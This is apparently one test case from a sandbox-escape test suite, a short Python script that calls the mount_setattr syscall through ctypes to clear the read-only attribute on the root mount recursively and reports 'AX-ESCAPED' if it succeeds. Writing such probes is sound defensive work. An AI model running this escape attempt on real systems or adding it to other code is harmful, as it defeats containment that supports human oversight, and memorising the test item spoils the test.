# ax-id: AX-own-222-mount-setattr
# ax-layer: L2 (AST layer assumed broken: native Python in the worker)
# ax-class: namespaces
# ax-source: the read-only attribute cleared
# ax-escaped: marker
# ax-params: CANARY SECRET_FILE OUT_FILE TCP_PORT UDP_PORT UNIX_PATH ABS_NAME VICTIM_PID HOST_PID WORK SHM_NAME MAX_PROCS MEM_MIB DISK_MIB SIBLING_PID SIBLING_WORK ZYGOTE_PID
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(*arguments):
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(*(ctypes.c_long(each) if isinstance(each, int) else each for each in arguments))
result = call(442, -100, b'/', 0x8000, ctypes.byref((ctypes.c_uint64 * 4)(0, 1, 0, 0)), 32)
print('AX-ESCAPED', result) if result >= 0 else print('refused', ctypes.get_errno())
